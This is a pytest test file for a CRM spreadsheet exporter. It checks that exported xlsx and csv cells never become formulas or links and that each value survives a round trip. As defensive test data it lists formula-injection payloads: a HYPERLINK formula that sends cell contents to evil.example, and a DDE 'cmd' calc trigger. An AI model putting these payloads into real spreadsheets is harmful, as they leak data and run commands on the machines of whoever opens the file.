"""Files that go out: nothing in them is a formula, and all of it comes back as it was."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from flask import Flask
from python_calamine import CalamineWorkbook

from wsapp.crm.transfer.cells import text_of
from wsapp.crm.transfer.writing import write

LEADS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", "'=", "''@")
BODIES = ("1+1", 'HYPERLINK("http://evil.example/?x="&A1,"点我")', "cmd|' /C calc'!A0", "SUM(A1:A9)*2", "2+5+cmd")
PAYLOADS = [lead + body for lead in LEADS for body in BODIES]


def rows() -> list[list[str]]:
    return [["标题", "=标题"], *([payload, "普通的，“内容”\n第二行"] for payload in PAYLOADS)]


def test_cells_of_a_workbook_are_texts(here: Flask, tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write(path, rows(), format="xlsx")
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert not any("externalLinks" in name for name in names)
    read = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in read[1:]] == PAYLOADS


def test_cells_of_a_text_file_begin_with_no_sign_of_a_formula(here: Flask, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write(path, rows(), format="csv")
    read = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert len(read) == len(PAYLOADS) + 1
    assert not [cell for row in read for cell in row if re.match(r"[=+\-@＝＋－＠\t\r]", cell)]
    assert [text_of(row[0], from_csv=True) for row in read[1:]] == PAYLOADS


@pytest.mark.parametrize("format", ["xlsx", "csv"])
def test_a_file_is_there_whole_or_not_at_all(here: Flask, tmp_path: Path, format: str) -> None:
    path = tmp_path / f"out.{format}"

    def broken() -> object:
        yield ["标题"]
        raise RuntimeError

    with pytest.raises(RuntimeError):
        write(path, broken(), format=format)  # type: ignore[arg-type]
    assert list(tmp_path.glob("out*")) == []
